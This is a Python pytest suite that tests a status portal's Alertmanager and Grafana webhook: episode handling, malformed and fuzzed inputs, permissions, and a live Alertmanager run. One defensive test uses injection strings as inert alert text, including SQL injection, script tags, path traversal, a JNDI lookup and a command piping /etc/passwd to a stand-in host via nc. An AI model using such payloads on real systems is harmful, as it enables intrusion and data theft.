"""Alertmanager's webhook: one episode a firing, however it is delivered."""

import itertools
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from random import Random

import pytest

from portal import clock
from portal.accounts.roles import Role, Scope
from portal.audit import chain, search
from portal.runtime.episode import Episode
from portal.status.components import ComponentIn, State
from portal.store import revision
from portal.unit_of_work import By
from portal.worker import rounds
from tests.clocks import StandingClock
from tests.conftest import Build
from tests.instants import NOW
from tests.processes import Served, free_port, needed, until
from tests.sites import Site

PATH = "/api/admin/runtime/alerts/alertmanager"
FINGERPRINT = "a1b2c3d4e5f60718"


def alert(status: str, start: str, end: str = "0001-01-01T00:00:00Z", **labels: str) -> dict:
    return {
        "status": status,
        "labels": {"alertname": "HighLatency", "severity": "critical", **labels},
        "annotations": {"summary": "Answers are slow", "runbook_url": "https://r.example/slow"},
        "startsAt": start,
        "endsAt": end,
        "generatorURL": "http://prometheus/graph",
        "fingerprint": FINGERPRINT,
    }


def delivery(*alerts: dict) -> dict:
    return {
        "version": "4",
        "groupKey": '{}:{alertname="HighLatency"}',
        "truncatedAlerts": 0,
        "status": alerts[0]["status"],
        "receiver": "portal",
        "groupLabels": {},
        "commonLabels": {},
        "commonAnnotations": {},
        "externalURL": "http://alertmanager",
        "alerts": list(alerts),
    }


def episodes(site: Site) -> list[tuple[str, str | None]]:
    with site.portal.core.open_session() as session:
        rows = session.query(Episode).filter_by(source="alertmanager").order_by(Episode.opened_at)
        return [
            (clock.iso(row.opened_at), clock.iso(row.closed_at) if row.closed_at else None)
            for row in rows
        ]


FIRST = alert("firing", "2030-06-03T11:50:00.123456789Z")
ENDED = alert("resolved", "2030-06-03T11:50:00.123456789Z", "2030-06-03T11:55:00Z")
AGAIN = alert("firing", "2030-06-03T11:57:00Z")


def test_it_opens_and_closes_and_stands_among_the_alerts(either: Site, still: StandingClock):
    client, headers = either.client(), either.bearer(Scope.ALERTS_PUSH)
    told = client.post(PATH, json=delivery(FIRST), headers=headers)
    assert told.get_json() == {"opened": 1, "closed": 0, "unchanged": 0, "skipped": 0}
    (held,) = either.portal.overview.take().alerts
    assert (held.id, held.subject, held.severity) == ("HighLatency", FINGERPRINT, "critical")
    assert held.title == "Answers are slow"
    assert held.runbook == "https://r.example/slow"
    page = either.signed_in(Role.VIEWER).client.get("/panel").get_data(as_text=True)
    assert "Answers are slow" in page
    assert "from Alertmanager" in page
    # The portal's own rules do not close what they did not open.
    still.advance(minutes=10)
    either.scrape()
    rounds.run_once(either.portal)
    assert len(episodes(either)) == 1
    assert episodes(either)[0][1] is None
    client.post(PATH, json=delivery(ENDED), headers=headers)
    assert episodes(either) == [("2030-06-03T11:50:00.123Z", "2030-06-03T11:55:00Z")]
    assert either.portal.overview.take().alerts == []
    with either.portal.core.open_session() as session:
        assert list(chain.verify(session))[-1].first_bad_seq is None


ORDERS = sorted({"".join(order) for order in itertools.permutations("ffrr")} | {"frfrf", "r"})


@pytest.mark.parametrize("order", ORDERS)
@pytest.mark.usefixtures("still")
def test_repeated_and_reordered_deliveries_end_alike(site: Site, order: str):
    """f fires, r is resolved."""
    client, headers = site.client(), site.bearer(Scope.ALERTS_PUSH)
    for step in order:
        one = FIRST if step == "f" else ENDED
        assert client.post(PATH, json=delivery(one), headers=headers).status_code == 200
    assert episodes(site) == [("2030-06-03T11:50:00.123Z", "2030-06-03T11:55:00Z")]
    with site.portal.core.open_session() as session:
        types = [row.type for row in search.search(session, event_type="monitoring")[0]]
    assert sorted(types) == ["monitoring.episode.closed", "monitoring.episode.opened"]


@pytest.mark.usefixtures("still")
def test_firing_again_is_another_episode(either: Site):
    client, headers = either.client(), either.bearer(Scope.ALERTS_PUSH)
    for one in (FIRST, ENDED, AGAIN, ENDED, AGAIN):
        client.post(PATH, json=delivery(one), headers=headers)
    assert [end for _, end in episodes(either)] == ["2030-06-03T11:55:00Z", None]


def test_its_component_is_impaired(site: Site, still: StandingClock):
    for slug in ("api", "web", "mail"):
        names = ["HighLatency"] if slug == "web" else []
        site.portal.status.components.add(By("a"), ComponentIn(slug=slug, name=slug, alerts=names))
    headers = site.bearer(Scope.ALERTS_PUSH)
    fires = alert("firing", "2030-06-03T11:50:00Z", component="api")
    site.client().post(PATH, json=delivery(fires), headers=headers)
    still.advance(seconds=20)
    told = site.client().get("/api/status").get_json()["components"]
    assert {one["slug"]: one["state"] for one in told} == {
        "api": "partial_outage",
        "web": "partial_outage",
        "mail": "operational",
    }


def push(site: Site, *alerts: object, headers: dict[str, str], **more: object) -> dict:
    body = {**delivery(FIRST), "alerts": alerts, **more}
    answer = site.client().post(PATH, json=body, headers=headers)
    assert answer.status_code == 200, answer.get_data(as_text=True)
    return answer.get_json()


@pytest.mark.parametrize("body", [[], [FIRST], "x", 5, None])
@pytest.mark.usefixtures("still")
def test_what_is_no_object_at_all_is_refused(site: Site, body: object):
    headers = site.bearer(Scope.ALERTS_PUSH)
    assert site.client().post(PATH, json=body, headers=headers).status_code in (400, 422)
    assert episodes(site) == []


BROKEN = [
    (b'{"status": "firing", "alerts": [], "alerts": [%s]}', "a key that stands twice"),
    (b'{"groupKey": "\\ud800", "alerts": [%s]}', "half a character, escaped"),
    (b'{"groupKey": "\xff\xfe", "alerts": [%s]}', "bytes that are no UTF-8"),
    (b'{"truncatedAlerts": NaN, "alerts": [%s]}', "a number that is none"),
]


@pytest.mark.parametrize(("body", "why"), BROKEN, ids=[why for _, why in BROKEN])
def test_what_is_broken_around_an_alert_costs_no_alert(
    either: Site, still: StandingClock, body: bytes, why: str
):
    headers = either.bearer(Scope.ALERTS_PUSH) | {"Content-Type": "application/json"}
    data = body % json.dumps(FIRST).encode()
    answer = either.client().post(PATH, data=data, headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.get_json()["opened"] == 1, why


def test_half_a_character_in_an_alert_is_marked(either: Site, still: StandingClock):
    headers = either.bearer(Scope.ALERTS_PUSH) | {"Content-Type": "application/json"}
    alert = {**FIRST, "labels": {"alertname": "Half \ud83d of it"}}
    data = json.dumps({"alerts": [alert]})
    assert either.client().post(PATH, data=data, headers=headers).status_code == 200
    with either.portal.core.open_session() as session:
        assert session.query(Episode).one().alert == "Half ? of it"


ODD = [None, "", "x" * 7000, "a\x00b", 0, -1, 1e308, True, [], [1], {}, {"a": None}, "\u202e"]
TIMES = [
    *ODD,
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-14:00",
    "2999-12-31T23:59:59Z",
    "2030-06-03T11:50:00",
    "2030-06-03T11:50:00Z",
]
LABELS = [
    *ODD,
    {"alertname": "\x00"},
    {"alertname": "x" * 9000, "severity": "CRITICAL", "component": "api"},
    {"alertname": None, "severity": 7, "component": ["api"]},
    {"y" * 300 + str(number): "z" * 300 for number in range(300)},
    {"\x00": "\x00"},
]


def odd_alerts(seed: int) -> list[object]:
    draw = Random(seed)
    fields = {
        "status": [*ODD, "firing", "resolved", "Firing", " RESOLVED "],
        "labels": LABELS,
        "annotations": [*LABELS, {"summary": "s" * 9000, "runbook_url": "https://" + "r" * 9000}],
        "startsAt": TIMES,
        "endsAt": TIMES,
        "fingerprint": [*ODD, FINGERPRINT, "../x", "A" * 16, "g" * 64],
    }
    found: list[object] = [draw.choice(ODD) for _ in range(3)]
    for _ in range(40):
        one = {**FIRST, "status": draw.choice(["firing", "resolved"])}
        for name in draw.sample(sorted(fields), draw.randint(1, 4)):
            one[name] = draw.choice(fields[name])
        if draw.random() < 0.2:
            del one[draw.choice(sorted(one))]
        found.append(one)
    draw.shuffle(found)
    return found


@pytest.mark.fault(38)
def test_an_odd_alert_costs_no_other_and_never_a_500(either: Site, still: StandingClock):
    """Whatever comes is answered, and the sound alert beside it is taken and ended."""
    either.portal.status.components.add(By("a"), ComponentIn(slug="api", name="API"))
    headers = either.bearer(Scope.ALERTS_PUSH)
    sound = {"labels": {"alertname": "Sound", "component": "api"}, "fingerprint": "5" * 16}
    for seed in range(12):
        still.advance(minutes=1)
        fires = {**FIRST, **sound, "startsAt": clock.iso(clock.now())}
        sent = [*odd_alerts(seed), fires]
        told = push(either, *sent, headers=headers, **{"version": ODD[seed], "status": ODD[seed]})
        assert told["opened"] + told["unchanged"] + told["skipped"] >= 3
        assert [one for one in either.portal.overview.take().alerts if one.id == "Sound"]
        # The one that ends has the zero time for its end.
        assert push(either, {**fires, "status": "resolved"}, headers=headers)["closed"] == 1
        assert not [one for one in either.portal.overview.take().alerts if one.id == "Sound"]
    with either.portal.core.open_session() as session:
        for row in session.query(Episode):
            assert NOW - timedelta(days=400) < row.opened_at <= clock.now()
            assert row.closed_at is None or row.opened_at <= row.closed_at <= clock.now()
        assert list(chain.verify(session))[-1].first_bad_seq is None


@pytest.mark.parametrize("start", ["0001-01-01T00:00:00Z", "0001-01-01T00:00:00+01:00", "1999", 0])
def test_a_start_that_cannot_be_is_now(either: Site, still: StandingClock, start: object):
    since = NOW.date() - timedelta(days=100)
    part = ComponentIn(slug="api", name="API", since=since)
    either.portal.status.components.add(By("a"), part)
    headers = either.bearer(Scope.ALERTS_PUSH)
    fires = {**alert("firing", "", component="api"), "startsAt": start}
    push(either, fires, headers=headers)
    still.advance(minutes=1)
    push(either, {**fires, "status": "resolved", "endsAt": start}, headers=headers)
    assert episodes(either) == [("2030-06-03T12:00:00Z", "2030-06-03T12:01:00Z")]
    still.advance(minutes=1)
    (shown,) = either.client().get("/api/status").get_json()["components"]
    assert shown["uptime90"] > 0.9999


@pytest.mark.parametrize("alerts", [None, {}, "x", 5])
def test_a_delivery_without_a_list_of_alerts_is_an_empty_one(site: Site, alerts: object):
    headers = site.bearer(Scope.ALERTS_PUSH)
    answer = site.client().post(PATH, json={"alerts": alerts}, headers=headers)
    assert answer.status_code == 200
    assert answer.get_json()["skipped"] == (0 if alerts is None else 1)
    assert site.client().post(PATH, json={}, headers=headers).status_code == 200


@pytest.mark.usefixtures("still")
@pytest.mark.fault(38)
def test_of_many_the_first_500_are_taken_and_the_rest_is_counted(site: Site):
    many = [{**FIRST, "fingerprint": f"{number:08x}"} for number in range(503)]
    told = push(site, *many, headers=site.bearer(Scope.ALERTS_PUSH))
    assert told == {"opened": 500, "closed": 0, "unchanged": 0, "skipped": 3}
    assert site.figure("gigvora_alerts_skipped_total") == 3


@pytest.mark.usefixtures("still")
def test_without_a_fingerprint_its_labels_tell_it_apart(site: Site):
    headers = site.bearer(Scope.ALERTS_PUSH)
    one = {name: value for name, value in FIRST.items() if name != "fingerprint"}
    other = {**one, "labels": {"alertname": "HighLatency", "instance": "b"}}
    assert push(site, one, other, headers=headers)["opened"] == 2
    assert push(site, {**one, "status": "resolved"}, headers=headers)["closed"] == 1


GRAFANA = {
    "receiver": "portal",
    "status": "firing",
    "alerts": [
        {
            "status": "firing",
            "labels": {
                "alertname": "Checkout is / slow",
                "grafana_folder": "Shop",
                "severity": "Critical",
            },
            "annotations": {"summary": "Checkout is slow"},
            "startsAt": "2030-06-03T11:50:00Z",
            "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "https://grafana.example/alerting/grafana/x/view",
            "fingerprint": "c6eadffa33fcdf37",
            "silenceURL": "https://grafana.example/alerting/silence/new",
            "dashboardURL": "",
            "panelURL": "",
            "values": {"B": 44.2, "C": 1},
            "valueString": "[ var='B' labels={} value=44.2 ]",
        }
    ],
    "groupLabels": {"alertname": "Checkout is / slow"},
    "commonLabels": {},
    "commonAnnotations": {},
    "externalURL": "https://grafana.example/",
    "version": "1",
    "groupKey": "{}:{}",
    "truncatedAlerts": 0,
    "orgId": 1,
    "title": "[FIRING:1] Checkout is / slow",
    "state": "alerting",
    "message": "**Firing**",
}


@pytest.mark.usefixtures("still")
def test_grafanas_own_alerting_is_taken_and_mapped_by_its_name(either: Site):
    name = "Checkout is / slow"
    parts = either.portal.status.components
    parts.add(By("a"), ComponentIn(slug="shop", name="Shop", alerts=[name]))
    headers = either.bearer(Scope.ALERTS_PUSH)
    told = either.client().post(PATH, json=GRAFANA, headers=headers)
    assert told.get_json()["opened"] == 1
    (held,) = either.portal.overview.take().alerts
    assert (held.id, held.severity) == (name, "critical")
    (shown,) = either.client().get("/api/status").get_json()["components"]
    assert shown["state"] == "degraded_performance"
    person = either.signed_in()
    page = person.client.get("/panel").get_data(as_text=True)
    (link,) = re.findall(r'href="(/panel/incidents/new\?[^"]+)"', page) or [""]
    # It has not lasted yet; the form is found by its name all the same.
    assert link == "" or "Checkout%20is%20/%20slow" in link


def test_a_name_of_two_hundred_characters_can_be_mapped(either: Site, still: StandingClock):
    name = ("Long name " * 20).strip()[:200]
    person = either.signed_in()
    fields = {"slug": "a", "name": "A", "position": "0", "isPublic": "on"}
    fields["alerts"] = f"waf-spike\r\n{name}\r\n"
    assert person.post("/panel/components", **fields).status_code == 303
    kept = person.client.get("/panel/components/a").get_data(as_text=True)
    assert f"waf-spike\n{name}" in kept
    headers = either.bearer(Scope.ALERTS_PUSH)
    push(either, alert("firing", clock.iso(clock.now()), alertname=name), headers=headers)
    assert [one.id for one in either.portal.overview.take().alerts] == [name]
    still.advance(seconds=1)
    assert state_of(either, "a") == "degraded_performance"


def state_of(site: Site, slug: str) -> str:
    told = site.client().get("/api/status").get_json()["components"]
    return next(one["state"] for one in told if one["slug"] == slug)


def test_it_shows_on_the_public_page_at_once_and_a_repetition_moves_nothing(
    either: Site, still: StandingClock
):
    either.portal.status.components.add(By("a"), ComponentIn(slug="api", name="API"))
    headers, fires = either.bearer(Scope.ALERTS_PUSH), alert("firing", "2030-06-03T11:50:00Z")
    fires["labels"]["component"] = "api"
    assert state_of(either, "api") == "operational"
    before = revision_of(either)
    push(either, fires, headers=headers)
    assert state_of(either, "api") == "partial_outage"
    assert revision_of(either) == before + 1
    push(either, fires, headers=headers)
    other = alert("firing", "2030-06-03T11:51:00Z") | {"fingerprint": "ab" * 8}
    push(either, other, headers=headers)
    assert revision_of(either) == before + 1
    fires["labels"]["severity"] = "warning"
    push(either, fires, headers=headers)
    assert state_of(either, "api") == "degraded_performance"
    push(either, {**fires, "status": "resolved"}, headers=headers)
    assert state_of(either, "api") == "operational"


def revision_of(site: Site) -> int:
    with site.portal.core.open_session() as session:
        return revision.current(session)


def test_the_portals_own_alerts_show_at_once_too(site: Site, still: StandingClock):
    names = ["exporter-stale"]
    site.portal.status.components.add(By("a"), ComponentIn(slug="api", name="API", alerts=names))
    site.scrape()
    before = revision_of(site)
    still.advance(seconds=200)
    rounds.run_once(site.portal)
    assert revision_of(site) == before + 1
    rounds.run_once(site.portal)
    assert revision_of(site) == before + 1


@pytest.mark.usefixtures("still")
def test_the_component_that_it_spoke_of_before_is_well_again(site: Site):
    site.portal.status.components.add(By("a"), ComponentIn(slug="api", name="API"))
    headers = site.bearer(Scope.ALERTS_PUSH)
    push(site, alert("firing", "2030-06-03T11:50:00Z", component="api"), headers=headers)
    assert state_of(site, "api") == "partial_outage"
    before = revision_of(site)
    push(site, alert("firing", "2030-06-03T11:50:00Z", component="none"), headers=headers)
    assert revision_of(site) == before + 1
    assert state_of(site, "api") == "operational"


@pytest.mark.fault(39)
def test_an_operator_ends_what_its_sender_has_forgotten(either: Site, still: StandingClock):
    either.portal.status.components.add(By("a"), ComponentIn(slug="api", name="API"))
    headers = either.bearer(Scope.ALERTS_PUSH)
    fires = alert("firing", "2030-06-03T11:50:00Z", component="api")
    push(either, fires, headers=headers)
    person = either.signed_in(Role.OPERATOR)
    assert 'action="/panel/alerts/end"' in person.client.get("/panel").get_data(as_text=True)
    asked = {"alert": "HighLatency", "subject": FINGERPRINT}
    assert person.post("/panel/alerts/end", **asked).status_code == 303
    assert state_of(either, "api") == "operational"
    # Its sender goes on telling of the same firing, and later of another one.
    push(either, fires, headers=headers)
    assert state_of(either, "api") == "operational"
    push(either, {**fires, "startsAt": "2030-06-03T11:59:00Z"}, headers=headers)
    assert state_of(either, "api") == "partial_outage"
    may = either.bearer(Scope.INCIDENTS_WRITE)
    path = "/api/admin/runtime/alerts/end"
    for _ in range(2):
        ended = either.client().post(path, json=asked, headers=may)
        assert ended.get_json()["closedBy"] == "operator"
    assert state_of(either, "api") == "operational"
    with either.portal.core.open_session() as session:
        rows, total = search.search(session, event_type="monitoring.episode.ended")
    assert total == 2
    assert rows[-1].detail["alert"] == "HighLatency"


@pytest.mark.usefixtures("still")
def test_who_may_end_what(site: Site):
    push(site, FIRST, headers=site.bearer(Scope.ALERTS_PUSH))
    asked = {"alert": "HighLatency", "subject": FINGERPRINT}
    path = "/api/admin/runtime/alerts/end"
    reads = site.bearer(Scope.INCIDENTS_READ)
    assert site.client().post(path, json=asked, headers=reads).status_code == 403
    may = site.bearer(Scope.INCIDENTS_WRITE)
    nothing = {"alert": "Nothing", "subject": FINGERPRINT}
    assert site.client().post(path, json=nothing, headers=may).status_code == 404
    viewer = site.signed_in(Role.VIEWER)
    assert "/panel/alerts/end" not in viewer.client.get("/panel").get_data(as_text=True)


def test_the_portals_own_alerts_end_by_themselves(site: Site, still: StandingClock):
    site.scrape()
    still.advance(seconds=200)
    rounds.run_once(site.portal)
    may = site.bearer(Scope.INCIDENTS_WRITE)
    asked = {"alert": "exporter-stale", "subject": ""}
    answer = site.client().post("/api/admin/runtime/alerts/end", json=asked, headers=may)
    assert answer.status_code == 422


def test_the_panels_button_answers_htmx_with_the_alerts(site: Site, still: StandingClock):
    push(site, FIRST, headers=site.bearer(Scope.ALERTS_PUSH))
    person = site.signed_in(Role.OPERATOR)
    form = {"alert": "HighLatency", "subject": FINGERPRINT, "csrf_token": person.csrf()}
    answer = person.client.post("/panel/alerts/end", data=form, headers={"HX-Request": "true"})
    assert answer.status_code == 200
    assert "No alerts." in answer.get_data(as_text=True)


@pytest.mark.fault(39)
def test_what_is_not_told_again_lapses_and_says_so(either: Site, still: StandingClock):
    either.portal.status.components.add(By("a"), ComponentIn(slug="api", name="API"))
    headers = either.bearer(Scope.ALERTS_PUSH)
    fires = alert("firing", "2030-06-03T11:50:00Z", component="api")
    push(either, fires, headers=headers)
    still.advance(hours=7)
    push(either, fires, headers=headers)
    still.advance(hours=8)
    rounds.run_once(either.portal)
    assert state_of(either, "api") == "partial_outage"
    still.advance(seconds=1)
    rounds.run_once(either.portal)
    rounds.run_once(either.portal)
    assert state_of(either, "api") == "operational"
    page = either.signed_in(Role.VIEWER).client.get("/panel").get_data(as_text=True)
    assert "Answers are slow: not repeated by its sender" in page
    with either.portal.core.open_session() as session:
        assert search.search(session, event_type="monitoring.episode.lapsed")[1] == 1
    # Told again, it holds still, and did so all the time.
    push(either, fires, headers=headers)
    assert state_of(either, "api") == "partial_outage"
    assert episodes(either) == [("2030-06-03T11:50:00Z", None)]
    page = either.signed_in(Role.VIEWER).client.get("/panel").get_data(as_text=True)
    assert "not told again by its sender" not in page


def test_what_prometheus_and_the_portal_both_say_is_one_row(site: Site, still: StandingClock):
    site.scrape()
    still.advance(seconds=200)
    headers, now = site.bearer(Scope.ALERTS_PUSH), clock.iso(clock.now())
    away = alert("firing", now, alertname="PortalOtherScraperAway", portal_alert="exporter-stale")
    stuck = alert("firing", now, alertname="Stuck", portal_alert="worker-stuck", worker="jobs")
    push(site, away, {**stuck, "fingerprint": "b" * 16}, headers=headers)
    held = site.portal.overview.take().alerts
    assert [(one.id, one.also) for one in held] == [
        ("exporter-stale", ["PortalOtherScraperAway"]),
        ("Stuck", []),
    ]
    page = site.signed_in(Role.VIEWER).client.get("/panel/alerts").get_data(as_text=True)
    assert "Also reported by Prometheus" in page
    assert page.count('<article class="alert') == 2
    # When the portal's own is over, the other one stands by itself until it ends.
    site.scrape()
    assert [one.id for one in site.portal.overview.take().alerts] == [
        "PortalOtherScraperAway",
        "Stuck",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "1 UNION SELECT password FROM users -- ",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "; cat /etc/passwd | nc evil 1",
        "${jndi:ldap://x}",
        'rate(http_requests_total{path=~"/a.*|/b"}[5m]) > 5',
    ],
)
@pytest.mark.usefixtures("still")
def test_what_an_alert_quotes_is_no_attack(site: Site, text: str):
    headers = site.bearer(Scope.ALERTS_PUSH) | {"User-Agent": "Alertmanager/0.27.0"}
    quoted = alert("firing", "2030-06-03T11:50:00Z", query=text)
    quoted["annotations"] = {"summary": text, "description": text}
    quoted["generatorURL"] = f"http://prometheus/graph?g0.expr={text}"
    assert push(site, quoted, headers=headers)["opened"] == 1


@pytest.mark.usefixtures("still")
def test_a_pair_of_senders_at_once_opens_one_episode(either: Site):
    headers = either.bearer(Scope.ALERTS_PUSH)
    many = [{**FIRST, "fingerprint": f"{number:08x}"} for number in range(20)]

    def send(_: int) -> dict:
        return push(either, *many, headers=headers)

    with ThreadPoolExecutor(4) as pool:
        told = list(pool.map(send, range(4)))
    assert sum(one["opened"] for one in told) == 20
    assert len(episodes(either)) == 20


def test_the_expiry_can_be_off(build: Build, still: StandingClock):
    site = build(alert_expires=None)
    push(site, FIRST, headers=site.bearer(Scope.ALERTS_PUSH))
    still.advance(days=30)
    rounds.run_once(site.portal)
    assert episodes(site)[0][1] is None


def test_a_state_set_by_hand_stands_until_the_alert_changes(either: Site, still: StandingClock):
    parts = either.portal.status.components
    parts.add(By("a"), ComponentIn(slug="api", name="API"))
    headers = either.bearer(Scope.ALERTS_PUSH)
    fires = alert("firing", "2030-06-03T11:50:00Z", component="api")
    push(either, fires, headers=headers)
    still.advance(minutes=1)
    for wanted, shown in (
        (State.OPERATIONAL, "operational"),
        (State.DEGRADED, "degraded_performance"),
        (None, "partial_outage"),
        (State.OPERATIONAL, "operational"),
    ):
        parts.set_state(By("a"), "api", wanted)
        still.advance(minutes=1)
        # Told again, it says nothing new.
        push(either, fires, headers=headers)
        assert state_of(either, "api") == shown, wanted
    push(either, {**fires, "status": "resolved"}, headers=headers)
    assert state_of(either, "api") == "operational"
    push(either, {**fires, "startsAt": clock.iso(clock.now())}, headers=headers)
    still.advance(seconds=1)
    assert state_of(either, "api") == "partial_outage"


@pytest.mark.process
def test_alerts_are_listed_and_ended_from_the_command_line(served: Served):
    token = served.run("token", "create", "am", "--scope", "alerts:push").strip()
    fires = alert("firing", clock.iso(clock.now()))
    body = delivery(fires)
    assert served.post(PATH, body, Authorization=f"Bearer {token}").status == 200
    listed = served.run("alert", "list")
    assert f"HighLatency\t{FINGERPRINT}\tcritical\talertmanager" in listed
    assert "has ended" in served.run("alert", "end", "HighLatency", FINGERPRINT)
    assert "HighLatency" not in served.run("alert", "list")


def test_a_token_for_something_else_may_not(site: Site):
    headers = site.bearer(Scope.WORKERS_PUSH)
    assert site.client().post(PATH, json=delivery(FIRST), headers=headers).status_code == 403


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    with Served(tmp_path / "data", "--no-worker") as running:
        yield running


def test_a_real_alertmanager_fires_and_resolves(served: Served, tmp_path: Path):
    program = shutil.which("prometheus-alertmanager") or shutil.which("alertmanager")
    if program is None:
        assert not needed("alertmanager")
        pytest.skip("no Alertmanager; on Debian: apt-get install prometheus-alertmanager")
    token = served.run(
        "token", "create", "am", "--scope", "alerts:push", "--scope", "runtime:read"
    ).strip()
    config = tmp_path / "alertmanager.yml"
    config.write_text(
        f"""
route: {{receiver: portal, group_wait: 0s, group_interval: 1s, repeat_interval: 1s}}
receivers:
- name: portal
  webhook_configs:
  - url: {served.address}{PATH}
    send_resolved: true
    http_config: {{authorization: {{credentials: {token}}}}}
"""
    )
    port = free_port()
    process = subprocess.Popen(
        [
            program,
            f"--config.file={config}",
            f"--storage.path={tmp_path / 'am'}",
            f"--web.listen-address=127.0.0.1:{port}",
            "--cluster.listen-address=",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        manager = Served.__new__(Served)
        manager.address = f"http://127.0.0.1:{port}"
        until(lambda: manager.get("/-/ready").status == 200, what="Alertmanager")

        def tell(**more: str) -> None:
            labels = {"alertname": "HighLatency", "severity": "critical", "instance": "web-1"}
            answer = manager.post("/api/v2/alerts", [{"labels": labels, **more}])
            assert answer.status == 200, answer.text

        def held() -> list[dict]:
            answer = served.get("/api/admin/runtime/health", Authorization=f"Bearer {token}")
            return [one for one in json.loads(answer.text)["alerts"] if one["id"] == "HighLatency"]

        tell()
        until(lambda: len(held()) == 1, what="the episode")
        begun = held()[0]["since"]
        # It is told again each second; that is the same episode.
        tell()
        until(lambda: len(held()) == 1 and held()[0]["since"] == begun)
        ended = clock.iso(clock.now() - timedelta(milliseconds=50))
        tell(endsAt=ended)
        until(lambda: held() == [], what="the end")
    finally:
        process.terminate()
        process.wait(60)
